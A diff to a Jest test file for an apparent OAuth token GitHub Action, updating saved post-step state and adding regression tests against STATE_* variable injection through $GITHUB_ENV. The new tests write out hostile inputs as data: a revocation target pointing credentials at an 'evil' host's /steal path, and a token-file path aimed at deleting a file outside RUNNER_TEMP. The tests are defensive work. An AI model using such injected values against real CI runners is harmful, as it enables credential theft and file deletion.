@@ -4,7 +4,7 @@
 // secret; only `::add-mask::` lines may hold one.
 import { afterEach, describe, expect, it } from '@jest/globals'
 import { createHash } from 'node:crypto'
-import { existsSync, mkdtempSync, readFileSync, rmSync, statSync } from 'node:fs'
+import { existsSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import {
@@ -120,8 +120,8 @@ describe('runner: revocation at job end (RFC 7009)', () => {
     expect(await me(rs, access)).toBe(200)
 
     // The state the post step needs, in the state file: never on stdout.
-    expect(Object.keys(main.state).sort()).toEqual(['isPost', 'revoke'])
-    expect(main.state.isPost).toBe('true')
+    expect(Object.keys(main.state).sort()).toEqual(['revoke', 'token-file'])
+    expect(main.state['token-file']).toBe('')
     expect(JSON.parse(main.state.revoke ?? '')).toEqual({
       url: `${rs.url}/oauth/revoke`,
       tokens: [
@@ -298,16 +298,16 @@ describe('runner: revocation at job end (RFC 7009)', () => {
     const inputs = step(clientInputs(rs))
     const main = await runAction(inputs)
     expect(main.code).toBe(0)
-    expect(main.state).toEqual({ isPost: 'true' })
+    expect(main.state).toEqual({ revoke: '', 'token-file': '' })
     const post = await runPost(inputs, main.state)
     expect(post.code).toBe(0)
     expect(shown(post)).toEqual([])
     expect(rs.requests).toHaveLength(1)
   })
 
-  // A main step that fails before it has a token saves no state (src/deliver.ts, markPostStep):
-  // dist/post.js then loads nothing, and above all never runs the main step a second time.
-  it('saves no state when the main step fails, so the post step never mints', async () => {
+  // A main step that fails before it has a token saves only empty state: dist/post.js then
+  // loads nothing, and above all never runs the main step a second time.
+  it('saves only empty state when the main step fails, so the post step never mints', async () => {
     const rs = await server()
     const inputs = step({
       ...clientInputs(rs),
@@ -316,11 +316,53 @@ describe('runner: revocation at job end (RFC 7009)', () => {
     })
     const main = await runAction(inputs)
     expect(fail(main)).toMatch(/^Token request to .* failed: HTTP 401 invalid_client/)
-    expect(main.state).toEqual({})
+    expect(main.state).toEqual({ revoke: '', 'token-file': '' })
     const post = await runPost(inputs, main.state)
     expect(post.code).toBe(0)
     expect(shown(post)).toEqual([])
     expect(rs.requests.map(request => request.url)).toEqual(['/oauth/token'])
+  })
+})
+
+// $GITHUB_ENV lets any step add variables to the rest of the job's environment, STATE_* ones
+// too; the runner then overrides only the keys the action's main step saved. Untrusted text that
+// reaches $GITHUB_ENV must not make the post step send credentials elsewhere or delete files.
+describe('runner: STATE_* variables a step put in the job environment', () => {
+  it('cannot make the post step revoke at another host, with the client secret', async () => {
+    const rs = await server()
+    const evil = await server()
+    const inputs = step(clientInputs(rs))
+    const injected = {
+      STATE_revoke: JSON.stringify({
+        url: `${evil.url}/steal`,
+        tokens: [{ token: 'x', hint: 'refresh_token', expiresAt: '' }],
+        tokenEndpoint: `${evil.url}/oauth/token`
+      }),
+      STATE_isPost: 'true'
+    }
+    // Set before the main step (an earlier step) and still there for the post step.
+    const main = await runAction(inputs, injected)
+    expect(main.code).toBe(0)
+    expect(main.outputs['access-token']).toBeTruthy()
+    const post = await runPost(inputs, main.state, injected)
+    expect(post.code).toBe(0)
+    expect(shown(post)).toEqual([])
+    expect(evil.requests).toEqual([])
+    expect(rs.requests.map(request => request.url)).toEqual(['/oauth/token'])
+  })
+
+  it('cannot make the post step delete a file outside RUNNER_TEMP', async () => {
+    const rs = await server()
+    const elsewhere = runnerTemp()
+    const victim = join(elsewhere, `oauth2-token-${'ab'.repeat(12)}`)
+    writeFileSync(victim, "not the action's")
+    const inputs = step(clientInputs(rs))
+    const injected = { 'STATE_token-file': victim }
+    const main = await runAction(inputs, { ...injected, RUNNER_TEMP: runnerTemp() })
+    expect(main.code).toBe(0)
+    const post = await runPost(inputs, main.state, injected)
+    expect(post.code).toBe(0)
+    expect(existsSync(victim)).toBe(true)
   })
 })
 
@@ -338,7 +380,7 @@ describe('runner: the token file', () => {
     expect(statSync(path).mode & 0o777).toBe(0o600)
     expect(readFileSync(path, 'utf8')).toBe(access)
     expect(main.env).toEqual({ ACCESS_TOKEN: access, ACCESS_TOKEN_FILE: path })
-    expect(main.state).toEqual({ isPost: 'true', 'token-file': path })
+    expect(main.state).toEqual({ revoke: '', 'token-file': path })
     expect(shown(main)).toContain(`Token file: ${path} (mode 0600), deleted when the job ends.`)
 
     const post = await runPost(inputs, main.state, { RUNNER_TEMP: temp })
